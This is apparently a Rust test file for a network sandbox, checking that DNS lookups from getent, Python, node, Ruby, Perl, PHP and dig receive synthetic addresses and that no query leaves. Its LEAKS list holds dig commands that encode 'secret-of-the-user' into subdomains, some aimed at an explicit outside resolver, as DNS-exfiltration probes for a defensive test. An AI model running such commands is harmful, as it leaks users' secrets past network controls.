//! Names, asked in every way that programs have: each gets a synthetic address at once,
//! whatever the rules say, and no question leaves for it.

use outgate_harness::lab_tests;

use crate::scenario::Run;
use crate::stage::{Seen, Stage};

/// Ways to ask for the address of `denied.example`: over the C library, over
/// sockets of their own, and to a server that the program names itself.
const WAYS: [(&str, &str); 9] = [
    ("getent", "getent ahosts denied.example"),
    (
        "Python",
        "python3 -c 'import socket; print(socket.gethostbyname(\"denied.example\"))'",
    ),
    (
        "node over the C library",
        "node -e 'require(\"dns\").lookup(\"denied.example\", (e, a) => console.log(e, a))'",
    ),
    (
        "node over c-ares",
        "node -e 'require(\"dns\").resolve4(\"denied.example\", (e, a) => console.log(e, a))'",
    ),
    (
        "node that names a server",
        "node -e 'const r = new (require(\"dns\").Resolver)(); r.setServers([\"93.184.216.34\"]); r.resolve4(\"denied.example\", (e, a) => console.log(e, a))'",
    ),
    (
        "Ruby over datagrams",
        "ruby -r resolv -e 'puts Resolv::DNS.new.getaddress(%(denied.example))'",
    ),
    (
        "Perl",
        "perl -MSocket -e 'print inet_ntoa(inet_aton(q(denied.example)))'",
    ),
    ("PHP", "php -r 'echo gethostbyname(\"denied.example\");'"),
    ("dig", "dig +short +tries=1 +time=5 A denied.example"),
];

/// Names that carry something out, if anybody is asked for them.
const LEAKS: [&str; 4] = [
    "dig +short +tries=1 +time=5 TXT secret-of-the-user.denied.example",
    "dig +short +tries=1 +time=5 +tcp A secret-of-the-user.site.example",
    "dig +short +tries=1 +time=5 @93.184.216.34 A secret-of-the-user.denied.example",
    "dig +short +tries=1 +time=5 -p 5353 @127.0.0.1 A secret-of-the-user.denied.example",
];

lab_tests! {
    fn every_way_to_ask_gets_a_synthetic_address(lab) {
        let Some(mut stage) = Stage::start(lab, &["node", "ruby", "perl", "php", "dig"]) else { return };
        for (name, script) in WAYS {
            for rules in [&[][..], &["http://site.example"]] {
                let run = Run::make(&stage, stage.allowing(rules), script);
                let place = format!("{name}: {run}");
                assert_eq!(run.outcome.code, Some(0), "{place}");
                assert!(run.outcome.stdout.contains("198.1"), "a synthetic address: {place}");
                assert_eq!(stage.seen(), Seen::default(), "{place}");
            }
        }
    }

    fn no_name_carries_anything_out(lab) {
        let Some(mut stage) = Stage::start(lab, &["dig"]) else { return };
        let line = ["bash", "-c", LEAKS[3]].map(str::to_owned);
        let bare = lab.start_bare(stage.identity, &line).finish();
        assert_eq!(stage.seen().asked, ["secret-of-the-user.denied.example"], "bare it leaks: {bare}");
        for script in LEAKS {
            // Also where the site itself is allowed: only it is asked for.
            let run = Run::make(&stage, stage.allowing(&["http://site.example"]), script);
            assert!(run.outcome.code.is_some(), "{script}: {run}");
            assert!(!run.words().contains("93.184."), "{script}: {run}");
            assert_eq!(stage.seen(), Seen::default(), "{script}: {run}");
        }
    }
}
